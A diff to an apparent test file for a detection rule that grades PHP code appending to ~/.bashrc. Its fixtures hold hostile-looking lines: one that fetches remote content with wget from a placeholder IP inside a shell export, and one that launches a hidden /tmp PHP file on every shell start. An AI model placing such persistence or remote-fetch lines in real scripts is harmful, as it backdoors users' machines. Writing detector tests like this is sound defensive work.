@@ -37,3 +37,13 @@ def test_php_file_put_contents_of_an_export_is_low_of_a_command_high():
             "file_put_contents($rc, \"export PATH=\\$HOME/.composer/vendor/bin:\\$PATH\\n\", FILE_APPEND);\n"
             "file_put_contents($rc, \"export X=\\$(wget -qO- http://198.51.100.7/k)\\n\", FILE_APPEND);\n")
     assert _by_line(RULE, "install.php", text) == {3: "low", 4: "high"}
+
+
+def test_php_fopen_then_fwrite_is_graded_by_what_the_handle_writes():
+    text = ("<?php\n"
+            "$rc = getenv('HOME') . '/.bashrc';\n"
+            "$fh = fopen($rc, 'a');\n"
+            "fwrite($fh, \"alias ll='ls -l'\\n\");\n"
+            "$g = fopen($rc, 'a');\n"
+            "fwrite($g, \"(php /tmp/.w.php &)\\n\");\n")
+    assert _by_line(RULE, "setup.php", text) == {3: "low", 5: "high"}
